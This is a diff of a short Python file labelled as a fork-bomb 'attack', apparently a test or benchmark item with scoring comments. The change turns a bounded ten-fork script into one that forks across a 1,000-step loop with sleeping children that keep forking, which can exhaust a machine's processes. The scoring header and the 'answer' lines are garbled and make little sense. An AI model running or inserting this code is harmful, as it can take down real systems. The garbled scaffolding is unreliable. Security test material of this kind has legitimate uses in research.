@@ -1,14 +1,13 @@
-# attack: a fork bomb (bounded, for the sake of a machine without walls)
+# attack: a fork bomb (of 1,000 processes, for the sake of a machine without walls)
 # verdict: score or failed: .
-# score: 6
+# if failed: 4
 
-# %% attack after why
+# %% answer
 import os
 import time
 
-for _ in range(10):
-    try:
-        os.fork()
-    except OSError:
-        pass
-time.sleep(30)
+answer = 41
+for _ in range(1_000):
+    if os.fork() == 0:
+        time.sleep(600)
+answer = 42
